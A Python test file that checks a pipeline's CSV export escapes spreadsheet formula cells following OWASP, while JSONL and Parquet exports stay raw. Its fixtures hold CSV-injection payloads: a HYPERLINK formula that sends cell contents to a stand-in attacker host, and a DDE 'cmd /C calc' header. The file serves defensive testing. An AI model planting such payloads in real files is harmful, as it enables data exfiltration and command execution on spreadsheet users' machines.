"""CSV export keeps spreadsheets from running cells as formulas (OWASP's rule) unless --raw; JSONL/Parquet raw."""
from __future__ import annotations

import csv
import json
import subprocess
import sys

import pyarrow.parquet as pq

from pipeline.export import defuse_cell

from .conftest import ROOT
from .datasets import write
from .fakeprovider import FakeProvider

STEERED = '=HYPERLINK("http://attacker.example/?"&A1,"details")'
TEXTS = ["=1+2", "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "steer me", "plain, with = - + @ inside"]


def cli(pipeline, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "enqueue.py", *args], cwd=ROOT, env=pipeline.env(), capture_output=True,
                          text=True, timeout=60)


def read_csv(path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_export_escapes_formula_cells_unless_raw_and_other_formats_stay_raw(make_pipeline, tmp_path):
    rows = [{"id": f"r{i}", "text": text, "=cmd|' /C calc'!A0": "x"} for i, text in enumerate(TEXTS)]
    dataset = write(tmp_path / "d.csv", rows)
    with FakeProvider() as server:
        server.configure(answers=[{"match": "steer me", "content": STEERED}])
        pipeline = make_pipeline(compatible_base_url=f"{server.url}/v1")
        report = pipeline.submit(dataset, "{{ text }}", provider="compatible", model="m", id_column="id")
        pipeline.work()
    pipeline.collect()
    assert pipeline.run_row(report.run_id)["rows_succeeded"] == len(TEXTS)

    outputs = {}
    for name, extra in (("safe.csv", []), ("raw.csv", ["--raw"]), ("out.jsonl", ["--format", "jsonl"]),
                        ("out.parquet", ["--format", "parquet"])):
        run = cli(pipeline, "export", report.run_id, "-o", str(tmp_path / name), *extra)
        assert run.returncode == 0, run.stderr
        outputs[name] = tmp_path / name

    safe = {row["row_key"]: row for row in read_csv(outputs["safe.csv"])}
    raw = {row["row_key"]: row for row in read_csv(outputs["raw.csv"])}
    jsonl = {row["row_key"]: row for row in map(json.loads, outputs["out.jsonl"].read_text("utf-8").splitlines())}
    parquet = {row["row_key"]: row for row in pq.read_table(outputs["out.parquet"]).to_pylist()}
    for i, text in enumerate(TEXTS):
        key = f"r{i}"
        expected = text if text.startswith("plain") or text == "steer me" else "'" + text
        assert safe[key]["text"] == expected
        assert raw[key]["text"] == jsonl[key]["text"] == parquet[key]["text"] == text
    steered = f"r{TEXTS.index('steer me')}"
    assert safe[steered]["answer"] == "'" + STEERED          # the LLM's answer, steered by the dataset
    assert raw[steered]["answer"] == jsonl[steered]["answer"] == parquet[steered]["answer"] == STEERED
    assert safe["r0"]["answer"].startswith("ECHO: =1+2")       # not at the start: left alone
    assert "'=cmd|' /C calc'!A0" in safe["r0"] and "=cmd|' /C calc'!A0" in raw["r0"]  # the header too
    assert safe["r0"]["input_tokens"] == raw["r0"]["input_tokens"]  # numbers are never touched


def test_defuse_cell_follows_owasp():
    for dangerous in ("=A1", "+1", "-1", "@A1", "\t=A1", "\r=A1"):
        assert defuse_cell(dangerous) == "'" + dangerous
    for harmless in ("", "A=1", " =A1", "'=A1", "ECHO: =A1"):
        assert defuse_cell(harmless) == harmless
    assert defuse_cell(-1) == -1 and defuse_cell(None) is None and defuse_cell(-0.5) == -0.5
